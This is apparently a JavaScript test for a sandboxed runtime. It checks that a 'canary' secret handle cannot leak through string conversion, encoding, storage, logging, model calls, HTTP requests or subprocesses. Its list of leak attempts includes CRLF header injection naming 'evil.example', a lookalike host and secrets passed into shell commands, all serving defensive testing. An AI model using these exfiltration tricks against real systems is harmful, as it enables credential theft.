// expect: contained
// profiles: low medium
// A secret is given to everything that takes something, and taken to pieces.
const found = await attempt(() => Secrets.get("canary"));
const secret = found.value;

async function refused(fn) {
  let told = null;
  try {
    await fn();
  } catch (error) {
    told = `${error.message} ${error.stack} ${JSON.stringify(error)}`;
  }
  if (told === null) throw new Error(`it went through: ${fn}`);
  if (told.includes("sk-canary")) throw new Error("it was told");
}

const url = "http://127.0.0.1:9/";
const ways = [
  () => "Bearer " + secret, () => `${secret}`, () => String(secret), () => Number(secret), () => ({})[secret],
  () => secret.toString(), () => secret.value, () => { secret.secret_name = "x"; }, () => JSON.stringify(secret),
  () => JSON.stringify({ a: [secret] }), () => [secret].join(), () => encodeURIComponent(secret), () => btoa(secret),
  () => State.set("k", secret), () => State.set(secret, 1), () => ask(secret), () => say(secret),
  () => ask("x", { system: secret }), () => Fs.write("x", secret), () => Fs.read(secret), () => Event.emit("x", secret),
  () => Probe.echo([secret]), () => Http.get(secret), () => Http.get(url, { query: { q: secret } }),
  () => Http.post(url, { body: secret }), () => Http.post(url, { json: secret }), () => Http.post(url, { form: { a: secret } }),
  () => Http.get(url, { headers: { a: [secret, "x"] } }),
  () => Http.get(url, { headers: { a: ["x\r\nHost: evil.example\r\nY: ", secret] } }),
  () => Http.get(url, { headers: { "a\nb": secret } }), () => Http.get(url, { headers: { Host: secret } }),
  () => Http.get(url, { auth: secret, to: secret }), () => Http.get("http://example.com/", { auth: secret }),
  () => Http.get("http://127.0.0.1.evil.example/", { auth: secret }),
  () => Http.get("https://me@127.0.0.1/", { auth: secret }),
  () => Http.get(url, { auth: { user: "a\nb", password: secret } }), () => fetch(url, { headers: { a: secret } }),
  () => fetch(url, { method: "POST", body: secret }), () => new Request(url, { headers: { a: secret } }),
  () => System.run(["echo", secret]), () => System.run("cat", { input: secret }),
  () => System.run("true", { env: { X: secret } }), () => System.env(secret), () => Secrets.get(secret),
  () => fail(secret), () => Object.setPrototypeOf(secret, { toString: () => "x" }),
];
if (secret === undefined) {
  if (found.error.kind !== "permission") throw found.error; // nobody has granted it
} else {
  for (const way of ways) await refused(way);
  print(secret, [...Object.entries(secret)]);
  Log.info("it is", { secret: secret.secret_name });
  console.log(secret);
  if (Object.getOwnPropertyNames(secret).join() !== "secret_name") throw new Error("it has more");
}
export default "contained";
